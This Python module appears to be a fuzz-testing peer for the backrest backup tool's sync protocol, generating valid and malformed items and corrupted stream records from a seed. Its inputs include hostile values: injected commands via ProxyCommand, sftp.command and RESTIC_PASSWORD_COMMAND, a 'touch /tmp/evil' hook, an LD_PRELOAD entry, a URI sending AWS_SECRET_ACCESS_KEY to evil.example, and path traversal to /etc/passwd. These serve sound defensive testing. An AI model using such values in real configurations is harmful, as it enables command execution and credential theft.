"""A peer that says anything: valid items and broken ones, in any order, drawn from a seed; as client and as hub.

``Mischief`` makes what is said, ``Wire`` is one end of a stream on which it can be said rightly or wrongly, and which
keeps every plaintext that came back, for a model to judge. What is drawn depends on the seed alone.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable
from typing import Any

from google.protobuf import json_format
from sync_world import Pipe

from backrest import wire
from backrest.crypto.channel import Channel, ChannelError
from backrest.crypto.identity import Identity, make_handshake
from backrest.protocol import items
from backrest.protocol.framing import encode

Item = wire.sync.SyncStreamItem
Repo, Plan = wire.config.Repo, wire.config.Plan

NUMBERS = (0, 1, -1, 2, 7, 2**31, 2**63 - 1, -(2**63), 10**15)
TEXTS = (
    "",
    "*",
    "********",
    "\x00",
    "a\nb",
    "\x1b[2J",
    "../../etc",
    "${HOME}",
    "x" * 3000,
    "\u202ex",
    "évil",
    "%s%n",
)


class Mischief:
    """Draws items. ``names``: ids (of repos, plans, instances, keys) and guids that are worth naming."""

    def __init__(self, draw: random.Random, names: dict[str, list[str]]) -> None:
        self.draw = draw
        self.names = names

    def text(self, kind: str) -> str:
        if self.draw.random() < 0.85:
            return self.draw.choice(self.names[kind])
        return self.draw.choice(TEXTS)

    def number(self) -> int:
        if self.draw.random() < 0.7:
            return self.draw.randint(1, 40)
        return self.draw.choice(NUMBERS)

    def numbers(self) -> list[int]:
        if self.draw.random() < 0.02:
            return [self.draw.randint(-5, 10**6) for _ in range(self.draw.choice((600, 5000, 20_000)))]
        found = [self.number() for _ in range(self.draw.randint(0, 12))]
        return found + found[: self.draw.choice((0, 0, 3))]

    def operation(self) -> wire.operations.Operation:
        op = wire.operations.Operation(
            id=self.number(),
            modno=self.number(),
            flow_id=self.number(),
            repo_id=self.text("repo"),
            repo_guid=self.text("guid"),
            plan_id=self.text("plan"),
            instance_id=self.text("instance"),
            unix_time_start_ms=self.draw.choice((1_700_000_000_000, 1_700_000_000_000, 0, -5, 2**63 - 1)),
            status=self.draw.randint(0, 8) if self.draw.random() < 0.9 else 77,
            display_message=self.draw.choice(TEXTS),
        )
        if self.draw.random() < 0.2:
            op.original_instance_keyid = self.text("key")
            op.original_id, op.original_flow_id = self.number(), self.number()
        if self.draw.random() < 0.2:
            op.snapshot_id = self.draw.choice(("ab" * 32, "short", "ff" * 32))
        if self.draw.random() < 0.3:
            op.logref = self.draw.choice(("1", "../../config.json", "/etc/passwd"))
        self.draw.choice((op.operation_backup, op.operation_index_snapshot, op.operation_prune)).SetInParent()
        return op

    def event(self) -> wire.operations.OperationEvent:
        event = wire.operations.OperationEvent()
        what = self.draw.randint(0, 9)
        operations = [self.operation() for _ in range(self.draw.randint(0, 6))]
        if what == 0:
            event.keep_alive.SetInParent()
        elif what < 5:
            event.created_operations.operations.extend(operations)
        elif what < 8:
            event.updated_operations.operations.extend(operations)
        elif what < 9:
            event.deleted_operations.values.extend(self.numbers())
        return event  # and at times no event at all

    def hook(self) -> wire.config.Hook:
        hook = wire.config.Hook(conditions=[self.draw.randint(0, 3)])
        hook.action_command.command = "touch /tmp/evil"
        return hook

    def repo(self) -> Repo:
        if self.draw.random() < 0.25:  # one that nothing speaks against, but for what it would run here
            return Repo(
                id="new",
                guid=self.names["guid"][-1],
                uri="/srv/new",
                password="evil",
                env=["RESTIC_PASSWORD_COMMAND=evil"],
                flags=["-o sftp.command=evil"],
                hooks=[self.hook()],
            )
        repo = Repo(
            id=self.text("repo"),
            guid=self.text("guid"),
            uri=self.draw.choice(
                (
                    f"/srv/{self.text('repo')}",
                    "rest:https://u:********@evil.example/x",
                    "sftp:-oProxyCommand=evil:/x",
                    "rclone::sftp,ssh=evil:/x",
                    "rest:https://evil.example/${AWS_SECRET_ACCESS_KEY}",
                    "",
                )
            ),
            password=self.draw.choice(("evil", "********", "")),
            shared=self.draw.random() < 0.5,
            origin_instance_id=self.draw.choice(("", self.text("instance"))),
        )
        if self.draw.random() < 0.3:
            repo.env.extend(
                self.draw.sample(("RESTIC_PASSWORD_COMMAND=evil", "A=********", "LD_PRELOAD=/x", "B=1"), 2)
            )
            repo.flags.extend(self.draw.sample(("-o sftp.command=evil", "--no-cache", "--option=x", "'"), 2))
            repo.hooks.append(self.hook())
            repo.command_prefix.io_nice = self.draw.randint(0, 3)  # type: ignore[assignment]
        if self.draw.random() < 0.2:
            repo.prune_policy.schedule.cron = self.draw.choice(("* * * * *", "*/0 * * * *", "nonsense"))
        if self.draw.random() < 0.2:
            repo.check_policy.schedule.maxFrequencyDays = self.draw.choice((0, -1, 7))
        return repo

    def plan(self) -> Plan:
        plan = Plan(id=self.text("plan"), repo=self.text("repo"), paths=self.draw.choice(([], ["/"], ["-x"])))
        if self.draw.random() < 0.3:
            plan.hooks.append(self.hook())
            plan.backup_flags.append("--stdin-from-command evil")
            plan.retention.policy_keep_last_n = self.draw.choice((0, -1, 3))
        if self.draw.random() < 0.3:
            plan.schedule.cron = self.draw.choice(("0 3 * * *", "99 * * * *", "*/0 * * * *"))
        return plan

    def several(self, make: Callable[[], Any], most: int = 3) -> list[Any]:
        return [make() for _ in range(self.draw.randint(0, most))]

    def item(self) -> Any:
        """Any item at all, valid or not, wherever it has its place."""
        kind = self.draw.choice(
            (
                "heartbeat",
                "operation_manifest",
                "operation_manifest",
                "receive_operations",
                "receive_operations",
                "receive_operations",
                "request_operation_data",
                "receive_config",
                "receive_resources",
                "request_resources",
                "set_config",
                "set_config",
                "set_config",
                "request_log",
                "receive_log_data",
                "throttle",
                "handshake",
                "establish_shared_secret",
                "encrypted",
                "signed_message",
                "",
            )
        )
        draw = self.draw
        match kind:
            case "operation_manifest":
                ids = self.numbers()
                modnos = [self.number() for _ in ids]
                if draw.random() < 0.05:
                    modnos.append(1)
                return Item(operation_manifest=Item.SyncActionOperationManifest(op_ids=ids, modnos=modnos))
            case "receive_operations":
                message = Item.SyncActionReceiveOperations()
                if draw.random() < 0.97:
                    message.event.CopyFrom(self.event())
                return Item(receive_operations=message)
            case "request_operation_data":
                return Item(request_operation_data=Item.SyncActionRequestOperationData(op_ids=self.numbers()))
            case "receive_config":
                view = wire.sync.RemoteConfig(modno=draw.choice((0, 5, -1, 2**31 - 1)), version=6)
                view.repos.extend(self.several(self.repo))
                view.plans.extend(self.several(self.plan))
                return Item(receive_config=Item.SyncActionReceiveConfig(config=view))
            case "receive_resources":
                resources = Item.SyncActionReceiveResources()
                for _ in range(draw.randint(0, 4)):
                    resources.repos.add(id=self.text("repo"), guid=self.text("guid"))
                    resources.plans.add(id=self.text("plan"))
                return Item(receive_resources=resources)
            case "set_config":
                push = Item.SyncActionSetConfig(
                    repos=self.several(self.repo),
                    plans=self.several(self.plan),
                    repos_to_delete=self.several(lambda: self.text("repo"), 2),
                    plans_to_delete=self.several(lambda: self.text("plan"), 2),
                )
                return Item(set_config=push)
            case "request_log":
                return Item(request_log=Item.SyncActionRequestLog(log_id="../../config.json"))
            case "receive_log_data":
                return Item(receive_log_data=Item.SyncActionReceiveLogData(owner_opid=1, chunk=b"x" * 100))
            case "throttle":
                return Item(throttle=Item.SyncActionThrottle(delay_ms=self.number()))
            case "":
                return Item()
            case _:
                item = Item()
                getattr(item, kind).SetInParent()
                return item

    def mutated(self, data: bytes) -> bytes:
        """The same with a few bytes changed, dropped or doubled."""
        changed = bytearray(data or b"\x00")
        for _ in range(self.draw.randint(1, 4)):
            place = self.draw.randrange(len(changed))
            match self.draw.randint(0, 3):
                case 0:
                    changed[place] = self.draw.randrange(256)
                case 1:
                    del changed[place:]
                case 2:
                    changed[place:place] = self.draw.randbytes(3)
                case _:
                    changed[place] ^= 1 << self.draw.randrange(8)
            if not changed:
                changed = bytearray(b"\xff")
        return bytes(changed)


class Wire:
    """One end of a stream, by hand. ``codec`` and ``packed`` (gzip) are those of the request."""

    def __init__(
        self, pipe: Pipe, draw: random.Random, *, codec: str = "proto", packed: bool = False
    ) -> None:
        self.pipe = pipe
        self.draw = draw
        self.codec = codec
        self.packed = packed
        self.channel: Channel | None = None
        self.heard: list[Any] = []  # items, opened
        self.plain: list[bytes] = []  # their bytes, and those of end-of-stream messages
        self._buffer = b""
        self._last = b""

    def frame(self, item: Any) -> bytes:
        """An outer item as an envelope."""
        payload = (
            json_format.MessageToJson(item).encode() if self.codec == "json" else item.SerializeToString()
        )
        if self.packed and self.draw.random() < 0.5:
            return encode(1, gzip.compress(payload))
        return encode(0, payload)

    async def clear(self, item: Any) -> None:
        await self.pipe.send(self.frame(item))

    def sealed(self, plaintext: bytes) -> Any:
        assert self.channel is not None
        nonce, ciphertext = self.channel.seal(plaintext)
        return Item(encrypted=Item.SyncActionEncrypted(nonce=nonce, ciphertext=ciphertext))

    async def say(self, plaintext: bytes) -> None:
        """One record, in pieces at times."""
        self._last = self.frame(self.sealed(plaintext))
        if self.draw.random() < 0.1:
            cut = self.draw.randrange(len(self._last))
            await self.pipe.send(self._last[:cut])
            await self.pipe.send(self._last[cut:])
        else:
            await self.pipe.send(self._last)

    async def misbehave(self, mischief: Mischief) -> None:
        """Break the rules of records or envelopes, once."""
        record = self.sealed(mischief.item().SerializeToString())
        match self.draw.randint(0, 8):
            case 0:  # a record again
                await self.pipe.send(self._last or b"\x00")
            case 1:
                record.encrypted.nonce = self.draw.randbytes(self.draw.choice((0, 11, 12, 12, 13)))
                await self.clear(record)
            case 2:
                record.encrypted.ciphertext = mischief.mutated(record.encrypted.ciphertext)
                await self.clear(record)
            case 3:  # one is missing
                await self.clear(self.sealed(b""))
            case 4:
                await self.clear(mischief.item())  # in clear
            case 5:
                await self.pipe.send(
                    encode(self.draw.choice((1, 2, 3, 4, 128, 255)), self.draw.randbytes(30))
                )
            case 6:
                await self.pipe.send(b"\x00" + self.draw.choice((b"\xff\xff\xff\xff", b"\x04\x00\x00\x01")))
            case 7:
                await self.pipe.send(mischief.mutated(self.frame(record)))
            case _:
                await self.pipe.send(self.draw.randbytes(self.draw.randint(1, 400)))

    async def receive(self) -> Any:
        """The next item, opened and kept; None when the stream, or what makes sense of it, is over."""
        while True:
            if len(self._buffer) >= 5 and len(self._buffer) >= (
                end := 5 + int.from_bytes(self._buffer[1:5], "big")
            ):
                flags, payload, self._buffer = self._buffer[0], self._buffer[5:end], self._buffer[end:]
                break
            data = await self.pipe.receive()
            if not data:
                return None
            self._buffer += data
        if flags & 1:
            payload = gzip.decompress(payload)
        if flags & 2:
            self.plain.append(payload)
            return None
        item = json_format.Parse(payload, Item()) if self.codec == "json" else Item.FromString(payload)
        if self.channel is not None and item.WhichOneof("action") == "encrypted":
            try:
                opened = self.channel.open(item.encrypted.nonce, item.encrypted.ciphertext)
            except ChannelError:  # what it sent for the key exchange was broken, and still a key
                return None
            self.plain.append(opened)
            item = Item.FromString(opened)
        else:
            self.plain.append(payload)
        self.heard.append(item)
        return item

    async def listen(self) -> None:
        """Until the end of the stream."""
        try:
            while await self.receive() is not None:
                pass
        except OSError:
            pass

    def handshake(self, identity: Identity, instance_id: str, secret: str = "") -> bytes:
        assert self.channel is not None
        made = make_handshake(identity, instance_id, secret, self.channel.transcript)
        if self.draw.random() < 0.3:
            items.announce(made, self.draw.choice((["push-outcome/1"], ["logs/1", "push-outcome/1"], ["x"])))
        return bytes(Item(handshake=made).SerializeToString())
